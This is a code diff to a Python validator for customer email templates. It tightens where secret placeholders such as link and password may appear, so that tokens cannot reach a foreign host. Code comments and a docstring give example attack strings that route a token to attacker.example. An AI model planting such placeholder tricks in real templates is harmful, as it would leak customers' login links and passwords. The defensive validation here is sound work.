@@ -13,8 +13,13 @@ placement rule, and is refused — never silently cleaned — when it breaks the
 - Placeholders: in text content, or in a quoted value of an allowed attribute. `{{ link }}`
   only as the whole `href` of an `<a>` (and in the text part): anywhere else — an image's
   URL, a query string — it would hand the token to whoever the URL points at.
-  `{{ password }}` only in text content. `{{ portal_url }}` may start a URL; no other
-  placeholder may be in one. The subject carries no secret.
+  `{{ password }}` only in text content. `{{ portal_url }}` may start a URL, followed by
+  nothing or a path, query or fragment (`/`, `?`, `#`: never `@host` or `.host`, which
+  would change the host); no other placeholder may be in one. The subject carries no
+  secret. The html, head and body elements are the sender's: neither their start nor
+  their end tags.
+- The text part: a secret stands alone (blank space or nothing either side), since mail
+  clients turn URL-like runs of text into links (`text_problems`).
 
 How: the HTML is rendered with a probe value for every placeholder — a marker followed by
 an attribute (`pv…-first_name-vp data-p…=1`), the worst a customer's name could be — and
@@ -113,7 +118,8 @@ class _Rules:
 
     def __init__(self, probe: _Probe) -> None:
         self.probe = probe
-        self.storefront = storefront_origin()
+        self.portal_url = get_settings().storefront_base_url.strip()
+        self.storefront = _origin(self.portal_url)
         self.reasons: dict[tuple[str, str], str] = {}
 
     def __call__(self, tag: str, attribute: str, value: str) -> str | None:
@@ -143,16 +149,29 @@ class _Rules:
             if url != self.probe.value(LINK):
                 return f"{where}: {{{{ link }}}} must be the whole href, nothing around it"
             return None
-        if names and not (names == [PORTAL_URL] and url.startswith(self.probe.value(PORTAL_URL))):
+        portal = self.probe.value(PORTAL_URL)
+        if names and not (names == [PORTAL_URL] and url.startswith(portal)):
             return f"{where}: only {{{{ portal_url }}}} may be in a URL, at its start"
+        if names:
+            # What follows may not change the host: `{{ portal_url }}@attacker.example`
+            # or `.attacker.example` would, for a portal_url without a trailing slash.
+            rest = url[len(portal) :]
+            if rest[:1] not in ("", "/", "?", "#") or _origin(self.portal_url + rest) != (
+                self.storefront
+            ):
+                return (
+                    f"{where}: only a path, a query or a fragment (/, ?, #) may follow "
+                    "{{ portal_url }}"
+                )
+            return None
         if tag == "img":
-            if not names and _origin(url) != self.storefront:
+            if _origin(url) != self.storefront:
                 return (
                     f"{where}: images only from the storefront "
                     f"({self.storefront[0]}://{self.storefront[1]}), nothing else is loaded"
                 )
             return None
-        if not names and not url.startswith("#") and not re.match(r"(?i)(https?|mailto):", url):
+        if not url.startswith("#") and not re.match(r"(?i)(https?|mailto):", url):
             return f"{where}: links must be absolute http, https or mailto URLs"
         return None
 
@@ -249,12 +268,13 @@ def html_problems(source: str) -> list[str]:
         if reason not in reasons:
             reasons.append(reason)
 
-    if before.declarations or any(tag in _DOCUMENT_TAGS for tag, _ in before.starts):
+    tags = [*(tag for tag, _ in before.starts), *before.end_tags]
+    if before.declarations or any(tag in _DOCUMENT_TAGS for tag in tags):
         add(
             "this is the body of the email: leave out the doctype and the html, head and "
             "body elements (the sender adds them)"
         )
-    for tag in [*(tag for tag, _ in before.starts), *before.end_tags]:
+    for tag in tags:
         if probe.nonce in tag:
             add("a placeholder cannot be (part of) a tag name")
         elif tag not in TAGS and tag not in _DOCUMENT_TAGS:
@@ -318,6 +338,29 @@ def _attribute_reason(
     if (tag, name) in URL_ATTRIBUTES:
         return f"{tag} {name}: only http, https or mailto URLs"
     return f"the attribute {name} is not allowed on {tag}"
+
+
+def text_problems(source: str) -> list[str]:
+    """The text part is not sanitised, but a mail client links any run of text that looks
+    like a URL: a secret inside one (`https://attacker.example/?t={{ link }}`) would go to
+    that URL's host. So a secret stands alone: blank space or nothing on either side."""
+    reasons = []
+    for match in _PLACEHOLDER.finditer(source):
+        name = match.group(1)
+        before = source[match.start() - 1 : match.start()]
+        after = source[match.end() : match.end() + 1]
+        if name in SECRETS and not (_blank(before) and _blank(after)):
+            reason = (
+                f"{{{{ {name} }}}} must stand alone in the text: a space, a line break or "
+                "nothing on each side, never inside a URL"
+            )
+            if reason not in reasons:
+                reasons.append(reason)
+    return reasons
+
+
+def _blank(character: str) -> bool:
+    return not character or character.isspace()
 
 
 def subject_problems(source: str) -> list[str]:
